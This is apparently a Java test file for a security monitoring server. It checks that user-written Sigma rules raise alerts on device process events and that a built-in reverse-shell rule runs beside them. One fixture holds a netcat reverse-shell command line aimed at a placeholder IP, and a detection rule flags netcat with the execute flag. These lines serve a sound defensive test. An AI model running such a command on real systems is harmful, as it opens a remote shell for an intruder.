package io.vigil.server;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.vigil.detect.settings.LiveRuleSettings;
import io.vigil.hub.registry.RegisteredDevice;
import io.vigil.model.Alert;
import io.vigil.model.event.EventHeader;
import io.vigil.model.event.ProcessCreate;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The server evaluates the user's Sigma rules (vigil server --rules DIR) on device events. */
class UserRulesServerTest {
  @TempDir Path dir;

  @Test
  void aUserRuleRaisesItsAlertAndABrokenOneDoesNotStopTheOthers() throws Exception {
    Path rules = Files.createDirectories(dir.resolve("rules"));
    Files.writeString(rules.resolve("nc.yml"), """
        title: Netcat with an execute flag
        id: 6f1c2a7e-0d3b-4c55-9a61-2b7f3e9d8c01
        status: experimental
        level: high
        tags: [attack.execution, attack.t1059]
        vigil.alertName: Custom_NetcatExec
        vigil.remediation: Find out who started netcat with -e and why.
        logsource: {product: linux, category: process_creation}
        detection:
          selection:
            Image|endswith: [/nc, /nc.traditional]
            CommandLine|contains: ' -e '
          condition: selection
        """);
    Files.writeString(rules.resolve("broken.yml"), "title: broken\nlogsource: {product: linux}\ndetection:\n  condition: nothing\n");
    int mqtt;
    try (ServerSocket s = new ServerSocket(0)) {
      mqtt = s.getLocalPort();
    }
    ServerConfig base = ServerConfig.loopback(dir.resolve("data"), "localhost", 0, mqtt);
    ServerConfig config = new ServerConfig(base.dataDir(), base.hostName(), 0, mqtt, base.maxMessageBytes(), 0, "127.0.0.1",
        List.of(), List.of(rules));
    List<Alert> alerts = new CopyOnWriteArrayList<>();
    try (VigilServer server = VigilServer.start(config, Clock.systemUTC(), alerts::add)) {
      RegisteredDevice gw = server.registry().create("gw-rules", null);
      TestDevice.publish(mqtt, gw, List.of(
          new ProcessCreate(EventHeader.at(Instant.now(), ZoneOffset.UTC), List.of(
              new ProcessCreate.Process("/usr/bin/nc.traditional", 77, 1, "0", "root", "nc.traditional -e /bin/sh 198.51.100.7 4444", Map.of()),
              new ProcessCreate.Process("/usr/bin/nc", 78, 1, "0", "root", "nc -zv 10.0.0.1 22", Map.of())))));
      long deadline = System.currentTimeMillis() + 10_000;
      while ((alerts.stream().noneMatch(a -> a.alertName().equals("Custom_NetcatExec"))
          || alerts.stream().noneMatch(a -> a.alertName().equals("IoT_ReverseShell"))) && System.currentTimeMillis() < deadline) {
        Thread.sleep(50);
      }
    }
    assertThat(alerts).filteredOn(a -> a.alertName().equals("Custom_NetcatExec")).singleElement()
        .satisfies(a -> assertThat(a.deviceId()).isEqualTo("gw-rules"));
    assertThat(alerts).as("the built-in pack runs beside the user's rules").filteredOn(a -> a.alertName().equals("IoT_ReverseShell"))
        .singleElement().satisfies(a -> assertThat(a.ruleId()).isNotBlank());
  }

  @Test
  void anEditOfTheSettingsFileIsPickedUpWithinSeconds() throws Exception {
    Path file = dir.resolve("rules-settings.json");
    LiveRuleSettings settings = LiveRuleSettings.open(file);
    try (AutoCloseable watching = UserRules.watch(settings)) {
      Files.writeString(file, "{\"rules\": {\"IoT_ReverseShell\": {\"enabled\": false}}}");
      long deadline = System.currentTimeMillis() + 10_000;
      while (settings.current().rules().isEmpty() && System.currentTimeMillis() < deadline) {
        Thread.sleep(50);
      }
    }
    assertThat(settings.current().enabled("default", "IoT_ReverseShell")).isFalse();
  }

  @Test
  void aMissingRulesPathStopsTheStart() {
    Path missing = dir.resolve("nope");
    ServerConfig base = ServerConfig.loopback(dir.resolve("data2"), "localhost", 0, 1883);
    ServerConfig config = new ServerConfig(base.dataDir(), base.hostName(), 0, 1883, base.maxMessageBytes(), 0, "127.0.0.1",
        List.of(), List.of(missing));
    assertThatThrownBy(() -> VigilServer.start(config, Clock.systemUTC(), a -> { })).hasMessage("--rules " + missing + " does not exist");
  }
}
